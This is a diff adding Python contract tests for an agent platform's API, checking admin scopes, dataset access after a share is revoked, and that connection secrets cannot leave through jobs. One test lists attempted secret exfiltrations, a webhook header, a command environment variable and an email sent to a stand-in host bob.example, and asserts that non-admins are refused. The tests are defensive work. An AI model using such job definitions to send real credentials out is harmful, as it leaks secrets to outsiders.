@@ -13,7 +13,7 @@ import pytest
 from agent.core.callers import EVERY_SCOPE, Caller
 from agent.core.records import RunUpdate
 from shared.models import ConnectionInput, JobInput
-from tests.contract.api.people import People, Person, a_job, definition
+from tests.contract.api.people import EVERYTHING, People, Person, a_job, definition
 from tests.contract.store.making import fence
 from tests.harness.agent import RunningAgent
 
@@ -276,3 +276,70 @@ async def test_a_run_of_somebody_else_says_nothing_of_its_progress(
     async with bob.client(agent) as client:
         await client.post(f"/api/runs/{runs['bob']}/_cancel")
     assert (await listener.next())[1]["subjectId"] == runs["bob"]
+
+
+async def test_a_token_says_what_its_administrator_may_use_by_it(
+    world: RunningAgent, ada: Person, people: People, agent: RunningAgent
+) -> None:
+    """Without the scope `admin` it reaches no further than anybody's: what it cannot list it cannot name."""
+    await _private_source(agent, ada, world)
+    boss = await people.make("boss", *EVERYTHING, role="admin")
+    async with boss.client(agent) as client:
+        refused = (await client.post("/api/jobs", json=_sync())).json()["error"]
+    assert refused["faults"][0]["message"] == "there is no connection 'private_db'; there are: orders_db"
+    whole = await people.known("boss", boss.id, *EVERYTHING, "admin")
+    async with whole.client(agent) as client:
+        assert (await client.post("/api/jobs", json=_sync())).status_code == 201
+
+
+@pytest.mark.parametrize("secret", ["connection-warehouse", "warehouse-password"])
+async def test_what_opens_a_connection_is_sent_nowhere_else(
+    agent: RunningAgent, bob: Person, people: People, secret: str
+) -> None:
+    """Whoever may have queries run over a connection does not learn its password by a header, a mail or a program."""
+    local = agent.core.gate.local()
+    await agent.core.world.put_secret(local, "warehouse-password", "hush")
+    for name, given in (("warehouse", None), ("reports", "warehouse-password")):
+        url = f"postgresql://reader{'' if given else ':hush'}@db.example/{name}"
+        await agent.core.world.create_connection(local, ConnectionInput(name=name, url=url, secret_name=given))
+    header = {"headers": {"X-Stolen": {"secret": secret}}}
+    mail = {"to": "bob@example.org", "subject": "s", "text": "t", "server": {
+        "host": "bob.example", "user": "u", "secret": secret, "from": "bob@example.org",
+    }}  # fmt: skip
+    thefts: list[dict[str, Any]] = [
+        {"data": {"url": "https://bob.example/", **header}},
+        {"type": "command", "data": {"command": ["env"], "env": {"KEY": {"secret": secret}}}},
+        {"actions": [{"id": "a", "type": "webhook", "data": {"url": "https://bob.example/", **header}}]},
+        {"actions": [{"id": "a", "type": "email", "data": mail}]},
+    ]
+    async with bob.client(agent) as client:
+        for theft in thefts:
+            refused = await client.post("/api/jobs", json={**definition("Theft"), **theft})
+            assert refused.status_code == 400, refused.text
+            [fault] = refused.json()["error"]["faults"]
+            assert fault["value"] == secret
+            assert "only administrators name it" in fault["message"]
+    boss = await people.make("boss", *EVERYTHING, "admin", role="admin")
+    async with boss.client(agent) as client:
+        for number, known in enumerate(thefts):
+            made = await client.post("/api/jobs", json={**definition(f"Known {number}"), **known})
+            assert made.status_code == 201, made.text
+
+
+async def test_a_dataset_reaches_what_its_owner_may_use_now(
+    world: RunningAgent, ada: Person, bob: Person, agent: RunningAgent
+) -> None:
+    """Whoever had a connection, and has it no more, has it by no dataset either."""
+    source = await _private_source(agent, ada, world)
+    await _share(agent, ada, f"/api/connections/{source}", "bob", "runner")
+    async with bob.client(agent) as client:
+        given = {"name": "orders", "connection": "private_db", "query": "select * from orders"}
+        assert (await client.post("/api/datasets", json=given)).status_code == 201
+        refresh = {"type": "dataset-refresh", "data": {"dataset": "orders"}}
+        assert (await client.post("/api/jobs", json={"name": "Before", **refresh})).status_code == 201
+    async with ada.client(agent) as client:
+        assert (await client.delete(f"/api/connections/{source}/shares/bob")).status_code == 204
+    async with bob.client(agent) as client:
+        refused = await client.post("/api/jobs", json={"name": "After", **refresh})
+        assert refused.status_code == 400
+        assert "share it with the owner of the dataset 'orders'" in refused.json()["error"]["faults"][0]["message"]
